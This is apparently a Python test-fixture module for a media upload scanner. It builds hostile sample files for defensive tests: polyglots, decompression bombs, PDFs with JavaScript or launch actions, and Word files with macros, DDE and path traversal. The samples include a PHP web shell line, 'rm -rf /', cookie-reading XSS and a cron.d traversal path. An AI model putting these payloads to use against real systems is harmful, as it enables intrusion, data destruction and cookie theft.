"""Hostile files, made by code: refused at the door, refused by the scanner, or harmless once kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from typing import Final

from PIL import Image, PngImagePlugin

from media.scanning.types import RefusalReason as Reason
from tests.media.samples import (
    WORD_TYPES,
    archive,
    atom,
    m4a,
    mp3,
    ogg,
    pdf,
    pdf_stream,
    photograph,
    picture,
    png_chunk,
    relation,
    wav,
    word,
)  # fmt: skip

Make = Callable[[], bytes]
_SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_ZIP: Final = archive({"evil.exe": b"MZ" + b"\x00" * 64})
_SCRIPT: Final = b"<script>alert(document.cookie)</script>"
_ZEROS: Final = 120_000_000


@cache
def _zeros() -> bytes:
    packer = zlib.compressobj(9)
    piece = b"\x00" * 1_000_000
    return b"".join(packer.compress(piece) for _ in range(_ZEROS // len(piece))) + packer.flush()


def _huge_png() -> bytes:
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 99))
        + png_chunk(b"IEND", b"")
    )


def _png_with(name: bytes, data: bytes) -> bytes:
    plain = picture()
    return plain[:33] + png_chunk(name, data) + plain[33:]


def _texted_png() -> bytes:
    info, target = PngImagePlugin.PngInfo(), io.BytesIO()
    info.add_text("Author", "zqauthorqz")
    Image.new("RGB", (9, 9)).save(target, "PNG", pnginfo=info)
    return target.getvalue()


def _many_frames() -> bytes:
    frames, target = [Image.new("P", (300, 300), color) for color in range(60)], io.BytesIO()
    frames[0].save(target, "GIF", save_all=True, append_images=frames[1:])
    return target.getvalue()


def _overlapping_zip() -> bytes:
    """Several directory entries that point at the same bytes."""
    whole = word({"word/extra.xml": b"<a>" + b"b" * 400_000 + b"</a>"})
    at = whole.rindex(b"PK\x01\x02")
    entry_end = whole.rindex(b"PK\x05\x06")
    entry = whole[at:entry_end]
    copies = b"".join(entry.replace(b"word/extra.xml", b"word/ext%02d.xml" % number) for number in range(40))
    return _rewritten(whole[:at], entry + copies, whole[entry_end:], 40)


def _rewritten(front: bytes, added: bytes, end: bytes, more: int) -> bytes:
    count = struct.unpack_from("<H", end, 10)[0] + more
    begin = struct.unpack_from("<I", end, 16)[0]
    record = bytearray(end)
    struct.pack_into("<HHII", record, 8, count, count, len(front) + len(added) - begin, begin)
    return bytes(front + added + record)


def _twice_named() -> bytes:
    target = io.BytesIO(word())
    with zipfile.ZipFile(target, "a") as file:
        file.writestr("word/document.xml", "<other/>")
    return target.getvalue()


def _encrypted_entry() -> bytes:
    whole = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.index(mark) + offset] |= 1
    return bytes(whole)


def _object_stream(names: bytes) -> bytes:
    return pdf_stream(b"9 0 " + names, b"/Type /ObjStm /N 1 /First 4")


def _stored_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(0)
    return packer.compress(data) + packer.flush()


REFUSED_AT_THE_DOOR: Final[Mapping[str, Make]] = {
    "a program for Windows": lambda: b"MZ\x90\x00" + b"\x00" * 99,
    "a program for Linux": lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 99,
    "a program for macOS": lambda: b"\xcf\xfa\xed\xfe" + b"\x00" * 99,
    "a class of Java": lambda: b"\xca\xfe\xba\xbe" + b"\x00" * 99,
    "a shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "a script behind a mark and spaces": lambda: b"\xef\xbb\xbf  \n#!/usr/bin/env python\n",
    "PHP": lambda: b"<?php system($_GET['c']); ?>",
    "a page": lambda: b"<!DOCTYPE html><html><body onload=alert(1)>",
    "a page without a type": lambda: b"\n\n<html><script>alert(1)</script>",
    "a page in UTF-16": lambda: "<html><script>alert(1)</script>".encode("utf-16"),
    "SVG with a script": lambda: _SVG,
    "SVG as XML": lambda: b'<?xml version="1.0"?>' + _SVG,
    "entities without end": lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "&b;&b;">]><a/>',
    "a batch file": lambda: b"@echo off\r\ndel *.*\r\n",
    "RTF": lambda: b"{\\rtf1{\\object\\objdata 0105}}",
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(r) file\n",
    "an old or encrypted Office file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "gzip": lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 40,
    "7-Zip": lambda: b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40,
    "RAR": lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40,
    "a film": lambda: b"\x1a\x45\xdf\xa3" + b"\x00" * 40,
    "TIFF": lambda: b"II*\x00" + b"\x00" * 99,
    "a message with enclosures": lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n",
    "zeros": lambda: b"\x00" * 4_096,
    "text with a zero": lambda: b"plain\x00text",
}

REFUSED_BY_THE_SCANNER: Final[Mapping[str, tuple[Reason, Make]]] = {
    # two formats in one
    "PNG and ZIP": (Reason.TWO_KINDS, lambda: picture() + _ZIP),
    "JPEG and ZIP": (Reason.TWO_KINDS, lambda: picture("JPEG") + _ZIP),
    "GIF and page": (Reason.TWO_KINDS, lambda: picture("GIF") + _SCRIPT),
    "PNG and PHP": (Reason.TWO_KINDS, lambda: _png_with(b"tEXt", b"Comment\x00<?php system('id'); ?>")),
    "JPEG with a page as comment": (Reason.TWO_KINDS, lambda: picture("JPEG", comment=_SCRIPT)),
    "JPEG and PDF": (Reason.TWO_KINDS, lambda: picture("JPEG", comment=b"%PDF-1.7")),
    "PNG and RAR": (Reason.TWO_KINDS, lambda: picture() + b"Rar!\x1a\x07\x00"),
    "PNG and Phar": (Reason.TWO_KINDS, lambda: picture() + b"__HALT_COMPILER(); ?>"),
    "WebP and SVG": (Reason.TWO_KINDS, lambda: picture("WEBP") + _SVG),
    "PDF and ZIP": (Reason.TWO_KINDS, lambda: pdf() + _ZIP),
    "PDF with a tail": (Reason.TWO_KINDS, lambda: pdf() + b"A" * 5_000),
    "WAV and ZIP": (Reason.TWO_KINDS, lambda: wav(after=_ZIP)),
    "WAV with a tail": (Reason.TWO_KINDS, lambda: wav(after=b"\x7fELF" + b"\x00" * 99)),
    "MP3 and page": (Reason.TWO_KINDS, lambda: mp3(after=_SCRIPT)),
    "MP3 with a program": (Reason.TWO_KINDS, lambda: mp3(after=b"MZ\x90" * 99)),
    "Ogg and ZIP": (Reason.TWO_KINDS, lambda: ogg(after=_ZIP)),
    "Ogg with a tail": (Reason.TWO_KINDS, lambda: ogg(after=b"\x7fELF\x01\x01")),
    "M4A with an atom of nobody's": (Reason.TWO_KINDS, lambda: m4a(after=atom(b"evil", b"x"))),
    "Word before another archive": (Reason.NOT_AS_IT_SEEMS, lambda: word() + _ZIP),
    "Word behind a script": (Reason.TWO_KINDS, lambda: archive({"[Content_Types].xml": WORD_TYPES}, comment=_SCRIPT)),
    "Word with one part twice": (Reason.TWO_KINDS, _twice_named),
    # not what they begin like
    "an archive of programs": (Reason.NOT_AS_IT_SEEMS, lambda: _ZIP),
    "an archive of archives": (Reason.NOT_AS_IT_SEEMS, lambda: archive({"a.zip": _ZIP})),
    "a spreadsheet": (Reason.NOT_AS_IT_SEEMS, lambda: archive({"xl/workbook.xml": "<a/>", "[Content_Types].xml": ""})),
    "an application for Android": (Reason.NOT_AS_IT_SEEMS, lambda: archive({"AndroidManifest.xml": ""})),
    "a film as sound": (Reason.NOT_AS_IT_SEEMS, lambda: m4a(handler=b"vide")),
    "a beginning of MP3 alone": (Reason.NOT_AS_IT_SEEMS, lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\x01" * 500),
    "text that ends in a program": (Reason.NOT_AS_IT_SEEMS, lambda: b"harmless " * 900 + b"\x7fELF\x00\x01\x02"),
    "a way out of the folder": (Reason.NOT_AS_IT_SEEMS, lambda: word({"../../etc/cron.d/a": "x"})),
    "Word with entities": (Reason.NOT_AS_IT_SEEMS, lambda: word({"word/a.xml": '<!DOCTYPE a [<!ENTITY a "x">]>'})),
    "Word with entities in UTF-16": (
        Reason.NOT_AS_IT_SEEMS, lambda: word({"word/a.xml": '<!DOCTYPE a [<!ENTITY a "x">]><a/>'.encode("utf-16")})
    ),
    # broken
    "half a PNG": (Reason.BROKEN, lambda: picture(size=(400, 400), color=(1, 2, 3))[:-300]),
    "half a JPEG": (Reason.BROKEN, lambda: picture("JPEG", size=(600, 600))[:900]),
    "PDF without an end": (Reason.BROKEN, lambda: pdf().replace(b"%%EOF", b"")),
    "PDF without pages": (Reason.BROKEN, lambda: pdf(pages=0)),
    "half a WAV": (Reason.BROKEN, lambda: wav()[:-100]),
    # bombs
    "PNG of 3.6 thousand megapixels": (Reason.TOO_LARGE_INSIDE, _huge_png),
    "PNG with a profile that unpacks": (Reason.BROKEN, lambda: _png_with(b"zTXt", b"a\x00\x00" + _zeros())),
    "PDF with a stream that unpacks": (
        Reason.TOO_LARGE_INSIDE,
        lambda: pdf(pdf_stream(_zeros(), packed=False)),
    ),
    "PDF packed twice": (
        Reason.TOO_LARGE_INSIDE,
        lambda: pdf(pdf_stream(zlib.compress(b"\x00" * 999_999), filters=b"[/FlateDecode /FlateDecode]")),
    ),
    "PDF with too many pages": (Reason.TOO_LARGE_INSIDE, lambda: pdf(pages=301)),
    "Word that unpacks": (Reason.TOO_LARGE_INSIDE, lambda: word({"word/media/a.xml": b"\x20" * 30_000_000})),
    "Word of many parts": (Reason.TOO_LARGE_INSIDE, lambda: word({f"word/{n}.xml": "" for n in range(2_100)})),
    "Word whose parts share their bytes": (Reason.TOO_LARGE_INSIDE, _overlapping_zip),
    # what acts
    "PDF with JavaScript": (Reason.ACTIVE_CONTENT, lambda: pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "PDF with escaped JavaScript": (Reason.ACTIVE_CONTENT, lambda: pdf(b"<< /S /J#61va#53cript /#4aS (a) >>")),
    "PDF with JavaScript on opening": (
        Reason.ACTIVE_CONTENT, lambda: pdf(catalog=b"/OpenAction << /S /JavaScript /JS (a) >>")
    ),
    "PDF with JavaScript in packed objects": (
        Reason.ACTIVE_CONTENT, lambda: pdf(_object_stream(b"<< /S /JavaScript /JS (a) >>"))
    ),
    "PDF with packed objects behind a false end": (
        Reason.ACTIVE_CONTENT,
        lambda: pdf(pdf_stream(
            _stored_deflate(b"endstream " + zlib.compress(b"a") + b" << /J#53 (a) /S /J#61vaScript >>"),
            b"/Type /ObjStm /N 1 /First 4", packed=False,
        )),
    ),
    "PDF with a false stream around JavaScript": (
        Reason.ACTIVE_CONTENT, lambda: pdf(b"<< >>\n% stream\n<< /S /JavaScript >>\n% endstream")
    ),
    "PDF that starts programs": (Reason.ACTIVE_CONTENT, lambda: pdf(b"<< /S /Launch /F (calc.exe) >>")),
    "PDF that sends forms": (Reason.ACTIVE_CONTENT, lambda: pdf(b"<< /S /SubmitForm /F (http://e.example) >>")),
    "PDF with a form of XML": (Reason.ACTIVE_CONTENT, lambda: pdf(catalog=b"/AcroForm << /XFA [(a) 10 0 R] >>")),
    "PDF with rich media": (Reason.ACTIVE_CONTENT, lambda: pdf(b"<< /Subtype /RichMedia >>")),
    "Word with macros": (Reason.ACTIVE_CONTENT, lambda: word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "Word that says it has macros": (
        Reason.ACTIVE_CONTENT, lambda: word(types=WORD_TYPES.replace("application/", "application/vnd.macroEnabled."))
    ),
    "Word with ActiveX": (Reason.ACTIVE_CONTENT, lambda: word({"word/activeX/activeX1.xml": "<a/>"})),
    "Word with DDE": (Reason.ACTIVE_CONTENT, lambda: word(text="</w:t><w:instrText>DDEAUTO cmd</w:instrText><w:t>")),
    # what hides, loads, locks
    "PDF with an enclosure": (Reason.EMBEDDED_FILES, lambda: pdf(catalog=b"/Names << /EmbeddedFiles 10 0 R >>")),
    "Word with an object": (Reason.EMBEDDED_FILES, lambda: word({"word/embeddings/oleObject1.bin": b"\xd0\xcf"})),
    "Word with a page inside": (Reason.EMBEDDED_FILES, lambda: word({"word/afchunk.mht": "MIME-Version: 1.0"})),
    "Word with a program": (Reason.EMBEDDED_FILES, lambda: word({"word/media/a.exe": b"MZ"})),
    "Word with a template from elsewhere": (
        Reason.REMOTE_CONTENT, lambda: word(relationships=relation("attachedTemplate"))
    ),
    "Word with a picture from elsewhere": (Reason.REMOTE_CONTENT, lambda: word(relationships=relation("image"))),
    "PDF that is locked": (Reason.ENCRYPTED, lambda: pdf(b"<< /Filter /Standard >>", trailer=b"/Encrypt 10 0 R")),
    "Word that is locked": (Reason.ENCRYPTED, _encrypted_entry),
}  # fmt: skip

HARMLESS_ONCE_KEPT: Final[Mapping[str, Make]] = {
    "a place and a camera in EXIF": lambda: photograph(),
    "text beside the pixels": _texted_png,
    "a comment": lambda: picture("JPEG", comment=b"zqcommentqz"),
    "bytes behind the end": lambda: picture() + b"zqbehindqz",
    "a moving picture of many frames": _many_frames,
}
"""Whatever stands beside the pixels of these is not kept."""
